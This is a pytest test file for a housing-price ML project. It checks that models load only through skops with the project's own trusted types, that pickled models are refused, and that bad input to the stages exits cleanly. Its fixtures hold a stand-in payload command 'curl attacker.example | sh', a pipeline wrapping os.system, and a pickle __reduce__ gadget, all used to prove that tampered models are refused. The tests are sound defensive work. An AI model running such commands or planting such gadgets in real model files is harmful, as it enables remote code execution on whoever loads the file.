"""README promises checked on the real code, needing nothing (no dataset, no store, no server):

- models are loaded with skops trusting only the project's list, never the list a model's own MLmodel file
  carries, and never pickle: a tampered model is refused before any of its objects is built;
- bad input ends a stage (preprocess, train) with one sentence on stderr and exit code 2, and destroys nothing:
  the previous split and plots stay byte for byte, and a refused train touches no tracking store.

The stage scripts run as ``python <script>.py`` would run them (``runpy`` with ``__name__ == "__main__"``, so
``cli.run`` parses sys.argv and calls sys.exit), in this process to spare an interpreter start per case.
"""

from __future__ import annotations

import contextlib
import io
import os
import pickle
import runpy
import shutil
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import skops.io
from mlflow.models import Model
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from skops.io.exceptions import UntrustedTypesFoundException

from housing.config import Settings
from housing.data.dataset import load_and_store
from housing.errors import UserError
from housing.registry.model_files import SKOPS_TRUSTED_TYPES, load_skops_model
from housing.schema import FEATURE_NAMES, TARGET
from housing.training.candidates import build_pipeline, load_candidate_specs
from tests.code.test_data import tiny_dataset

PROJECT_DIR = Path(__file__).resolve().parents[2]

# --- skops: only the project's trusted types -------------------------------------------------------------------
BUILT: list[Any] = []
"""Every Tampered object skops has built: an attacker's code would have run once per entry."""


class Tampered:
    """A type no model of the project holds; loading it would run its ``__setstate__`` (an attacker's code)."""

    def __init__(self) -> None:
        self.command = "curl attacker.example | sh"

    def __setstate__(self, state: dict[str, Any]) -> None:
        BUILT.append(state)
        self.__dict__.update(state)

    def fit(self, x: Any, y: Any = None) -> Tampered:
        return self

    def transform(self, x: Any) -> Any:
        return x


class PickleBomb:
    """Unpickling it writes a file: proof that a pickle was loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.marker, "unpickled"))


TAMPERED_TYPE = f"{Tampered.__module__}.{Tampered.__qualname__}"


@pytest.fixture(scope="module")
def fitted() -> Pipeline:
    """A real candidate pipeline (linear_regression: outlier rule, scaler, estimator) fitted on tiny data."""
    frame = tiny_dataset(200)
    spec = load_candidate_specs(Settings().candidates_path, ["linear_regression"])[0]
    pipeline = build_pipeline(spec, outlier_quantiles=(0.001, 0.999), estimator_scale=1.0)
    return pipeline.fit(frame[list(FEATURE_NAMES)], frame[TARGET.name])


def model_folder(path: Path, model: Any, trusted: list[str], *, serialization_format: str = "skops") -> Path:
    """An MLflow model folder as MLflow writes it for scikit-learn: MLmodel (whose trusted list the model's author
    controls) and the serialized model."""
    path.mkdir()
    file_name = "model.skops" if serialization_format == "skops" else "model.pkl"
    if serialization_format == "skops":
        skops.io.dump(model, path / file_name)
    else:
        (path / file_name).write_bytes(pickle.dumps(model))
    mlmodel = Model()
    mlmodel.add_flavor("sklearn", pickled_model=file_name, serialization_format=serialization_format, skops_trusted_types=trusted)
    mlmodel.save(str(path / "MLmodel"))
    return path


def test_a_model_of_trusted_types_loads_and_predicts_as_saved(fitted, tmp_path):
    folder = model_folder(tmp_path / "good", fitted, list(SKOPS_TRUSTED_TYPES))
    rows = tiny_dataset(20)[list(FEATURE_NAMES)]
    np.testing.assert_array_equal(load_skops_model(folder, "good").predict(rows), fitted.predict(rows))


def test_a_model_carrying_an_untrusted_type_is_refused_whatever_its_own_mlmodel_trusts(fitted, tmp_path):
    tampered = Pipeline([*fitted.steps[:-1], ("payload", Tampered()), fitted.steps[-1]])
    folder = model_folder(tmp_path / "tampered", tampered, [*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE])  # the file widens its own list
    BUILT.clear()
    with pytest.raises(UntrustedTypesFoundException, match=TAMPERED_TYPE):
        load_skops_model(folder, "tampered")
    assert BUILT == []  # refused before the object was built
    assert skops.io.load(folder / "model.skops", trusted=[*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]) is not None  # loading it builds it...
    assert len(BUILT) == 1  # ...so the refusal above is what kept the payload from running


def test_a_model_calling_a_system_function_is_refused(fitted, tmp_path):
    tampered = Pipeline([("payload", FunctionTransformer(os.system)), *fitted.steps])
    folder = model_folder(tmp_path / "system", tampered, [*SKOPS_TRUSTED_TYPES, f"{os.system.__module__}.system"])
    with pytest.raises(UntrustedTypesFoundException, match=r"\.system"):
        load_skops_model(folder, "system")


def test_a_pickled_model_is_never_unpickled(tmp_path):
    marker = tmp_path / "marker"
    folder = model_folder(tmp_path / "pickled", PickleBomb(marker), [], serialization_format="cloudpickle")
    with pytest.raises(UserError, match="pickled is not a skops-serialized scikit-learn model"):
        load_skops_model(folder, "pickled")
    assert not marker.exists()
    pickle.loads((folder / "model.pkl").read_bytes())  # the file does what it says when unpickled...
    assert marker.read_text() == "unpickled"  # ...so the refusal is what kept it from running


# --- preprocess and train: bad input is exit 2, one sentence, nothing destroyed -------------------------------------
def clean_environment(patch: pytest.MonkeyPatch, work_dir: Path) -> Settings:
    """The stages' environment: artifacts and tracking store in ``work_dir``, nothing from the caller's HOUSING_* or
    MLFLOW_*; returns the settings the stages will read."""
    for key in list(os.environ):
        if key.startswith(("HOUSING_", "MLFLOW_")):
            patch.delenv(key)
    patch.setenv("HOUSING_ARTIFACTS_DIR", str(work_dir / "artifacts"))
    patch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{work_dir / 'mlflow.db'}")
    return Settings()


def run_script(script: str, *args: str, patch: pytest.MonkeyPatch) -> tuple[Any, str, str]:
    """``python <script> <args>``: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    patch.setattr(sys, "argv", [script, *args])
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), pytest.raises(SystemExit) as exited:
        runpy.run_path(str(PROJECT_DIR / script), run_name="__main__")
    return exited.value.code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def preprocessed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Artifacts of a good run: a tiny valid dataset stored by load_data's own function, then preprocess.py."""
    work_dir = tmp_path_factory.mktemp("preprocessed")
    with pytest.MonkeyPatch.context() as patch:
        settings = clean_environment(patch, work_dir)
        tiny_dataset(200).to_csv(work_dir / "tiny.csv", index=False)
        load_and_store(str(work_dir / "tiny.csv"), settings.dataset_path, settings.manifest_path)
        code, out, err = run_script("preprocess.py", patch=patch)
    assert code == 0 and "== Statistics ==" in out, err
    return settings.artifacts_dir


@pytest.fixture
def stages(preprocessed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """A private copy of the good run's artifacts, and the environment pointing at it."""
    shutil.copytree(preprocessed, tmp_path / "artifacts")
    return clean_environment(monkeypatch, tmp_path)


def files_of(*folders: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for folder in folders for path in sorted(folder.iterdir())}


def assert_one_sentence(err: str, expected: str) -> None:
    """stderr holds the error as one line starting with 'error: ' (log lines may precede it), and no traceback."""
    assert "Traceback" not in err, err
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and expected in errors[0], err


@pytest.mark.parametrize(("spoil", "args", "expected"), [
    ("drop a column", (), "error: the data is missing column(s) HouseAge"),
    ("out of range", (), "error: column MedInc has 1 value(s) outside the valid range (> 0 and <= 25 tens of thousands of US dollars)"),
    ("nothing", ("--test-size", "1.5"), "error: invalid setting test_size: Input should be less than 1"),
], ids=["a missing column", "a value out of range", "a test size of 1.5"])
def test_preprocess_refuses_bad_input_with_exit_2_and_keeps_the_previous_split_and_plots(stages, spoil, args, expected, monkeypatch):
    before = files_of(stages.split_dir, stages.plots_dir)
    assert len(before) == 10  # 4 split pickles, split.json, outliers.pkl, scaler.pkl, 3 plots
    frame = pd.read_csv(stages.dataset_path)
    if spoil == "drop a column":
        frame.drop(columns=["HouseAge"]).to_csv(stages.dataset_path, index=False)
    elif spoil == "out of range":
        frame.loc[3, "MedInc"] = -1.0
        frame.to_csv(stages.dataset_path, index=False)
    code, _, err = run_script("preprocess.py", *args, patch=monkeypatch)
    assert code == 2
    assert_one_sentence(err, expected)
    assert files_of(stages.split_dir, stages.plots_dir) == before


def test_preprocess_without_a_dataset_says_to_run_load_data(stages, monkeypatch):
    shutil.rmtree(stages.dataset_path.parent)
    code, _, err = run_script("preprocess.py", patch=monkeypatch)
    assert code == 2
    assert_one_sentence(err, f"error: no dataset at {stages.dataset_path}; run load_data.py first")


@pytest.mark.parametrize(("args", "expected"), [
    (("--candidates", "linear_regression", "no_such_model"), "error: unknown candidate(s) no_such_model; known: "),
    (("--cv-folds", "1"), "error: invalid setting cv_folds: Input should be greater than or equal to 2"),
    (("--n-jobs", "0"), "error: invalid setting n_jobs"),
], ids=["an unknown candidate", "one fold", "no process"])
def test_train_refuses_bad_input_with_exit_2_before_touching_the_tracking_store(stages, args, expected, tmp_path, monkeypatch):
    code, _, err = run_script("train.py", *args, patch=monkeypatch)
    assert code == 2
    assert_one_sentence(err, expected)
    assert not (tmp_path / "mlflow.db").exists() and not (tmp_path / "mlruns").exists()


def test_train_without_a_split_says_to_run_preprocess(stages, tmp_path, monkeypatch):
    shutil.rmtree(stages.split_dir)
    code, _, err = run_script("train.py", patch=monkeypatch)
    assert code == 2
    assert_one_sentence(err, f"error: no train/test split in {stages.split_dir} (missing X_train.pkl, X_test.pkl, y_train.pkl, "
                             "y_test.pkl); run preprocess.py first")
    assert not (tmp_path / "mlflow.db").exists()
